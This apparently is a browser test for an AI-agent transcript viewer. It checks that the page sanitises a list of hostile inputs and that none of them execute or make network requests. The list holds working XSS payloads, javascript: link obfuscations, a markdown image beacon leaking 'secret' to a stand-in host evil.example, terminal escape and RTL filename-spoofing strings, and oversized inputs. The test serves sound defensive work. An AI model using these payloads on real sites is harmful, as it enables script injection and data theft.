/**
 * A hostile transcript: the page runs none of it, fetches nothing from it, and hides nothing.
 *
 * @module
 */

import assert from "node:assert/strict";
import { playFleet } from "tests/support/page_story.ts";
import { pageStories } from "tests/web/stories.ts";

const EVIL = "https://evil.example";
const HOSTILE: readonly string[] = [
  "<script>document.title='owned'</script>",
  `<img src="${EVIL}/a.png" onerror="document.title='owned'">`,
  `<svg xmlns="http://www.w3.org/2000/svg" ` +
  `onload="document.title='owned'"><script>document.title='owned'</script></svg>`,
  `<iframe src="${EVIL}"></iframe><object data="${EVIL}"></object><embed src="${EVIL}">`,
  `<link rel="stylesheet" href="${EVIL}/x.css"><style>@import "${EVIL}/y.css"; ` +
  "body{display:none}</style>",
  `<meta http-equiv="refresh" content="0;url=${EVIL}"><base href="${EVIL}/">`,
  `<form action="${EVIL}"><button autofocus onfocus="document.title='owned'">x</button></form>`,
  `<video src="${EVIL}/v" autoplay></video><audio src="${EVIL}/a"></audio>`,
  `![secret](${EVIL}/pixel.png?data=secret) ![r][ref]\n\n[ref]: ${EVIL}/ref.png`,
  `[![nested](${EVIL}/n.png)](javascript:document.title='owned')`,
  "[a](javascript:document.title='owned') [b](JaVaScRiPt:document.title='owned') " +
  "[c](data:text/html,<script>1</script>)",
  "[d](java&#10;script:document.title='owned') [e](&#106;avascript:document.title='owned') " +
  "[f](\u0001javascript:1)",
  "<javascript:document.title='owned'> <a href=\"javascript:document.title='owned'\">g</a>",
  `[real](https://example.org "title\\" onmouseover=\\"document.title='owned'") ` +
  "https://example.org/auto mailto:a@example.org",
  "\u001b[31mred\u001b[0m \u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007 " +
  "\u001b[2J\u001b]0;owned\u0007 \u202egnp.exe",
  "half a pair \ud800 and a byte that is none \ufffd \u0000 \u0007",
  "x".repeat(1_000_000),
  `${"> ".repeat(4_000)}deep`,
  "*a_".repeat(30_000),
  "{{constructor.constructor('document.title=1')()}} ${document.title='owned'} " +
  "`</code><script>document.title='owned'</script>`",
  "```html\n<script>document.title='owned'</script>\n```\n\n" +
  "```\"><img src=x onerror=document.title='owned'>\nx\n```",
  `| <img src=x onerror="document.title='owned'"> | b |\n|---|---|\n` +
  `| [x](javascript:1) | ![](${EVIL}/t.png) |`,
  "__proto__ constructor toString\n\n- [x] <input type=image src=https://evil.example/i.png>",
];

const story = pageStories();

story("a hostile transcript runs nothing and fetches nothing", async ({ scene, page }) => {
  const ada = await playFleet(scene);
  await page.addInitScript(`addEventListener("securitypolicyviolation", (event) => {
        (globalThis.reports ??= []).push(event.violatedDirective + " " + event.blockedURI);
      })`);
  await page.goto(scene.url);
  await page.getByText("Hello, I am Ada.").waitFor();
  for (const [index, text] of HOSTILE.entries()) {
    await scene.ask("ada", text.slice(0, 60_000));
    const { turnId } = await ada.takeTurn();
    ada.preview(turnId, `m${index}`, text.slice(0, 50_000), 0);
    await ada.call(turnId, {
      tool: text.slice(0, 300),
      mcp: text.slice(0, 300),
      arguments: { command: text.slice(0, 10_000) },
      result: text.slice(0, 200_000),
    });
    await ada.call(turnId, {
      tool: "send_message",
      mcp: "teams",
      result: "sent",
      arguments: { to: text.slice(0, 200), text: text.slice(0, 10_000) },
    });
    await ada.emit("notice", { text }, { turnId });
    await ada.say(turnId, text, `m${index}`);
    await ada.end(turnId, "failed", { code: "x", reason: text.slice(0, 4_000) });
  }
  await ada.state("failed", "<img src=https://evil.example/state.png onerror=alert(1)>");
  await scene.ask("ada", "the last one");
  await page.locator(".ask", { hasText: "the last one" }).waitFor();
  await page.evaluate("document.querySelectorAll('details').forEach((one) => one.open = true)");
  await page.locator(".tool-detail").nth(HOSTILE.length - 1).waitFor({ state: "attached" });
  await page.reload();
  await page.locator(".ask", { hasText: "the last one" }).waitFor();

  assert.equal(await page.title(), "ada · fleetctl");
  assert.equal(await page.evaluate("globalThis.reports"), undefined, "the policy had work");
  const bad = "#app :is(img,script,iframe,object,embed,link,style,meta,base,video,audio,input)";
  assert.equal(await page.locator(bad).count(), 0);
  const hrefs = await page.evaluate(
    "[...document.querySelectorAll('article a')].map((a) => [a.href, a.rel, a.target])",
  ) as readonly (readonly [string, string, string])[];
  assert.ok(hrefs.length > 0, "safe links are links");
  for (const [href, rel, target] of hrefs) {
    assert.match(href, /^(https?:\/\/|mailto:)/);
    assert.deepEqual([rel, target], ["noopener noreferrer", "_blank"]);
  }
  const shown = await page.locator("#app").innerText();
  // deno-lint-ignore no-control-regex -- these characters must be removed
  assert.doesNotMatch(shown, /[\u0000-\u0008\u001b\u202e]/);
  const wide = await page.evaluate("document.documentElement.scrollWidth - innerWidth");
  assert.equal(wide, 0, "a long line does not widen the page");
});
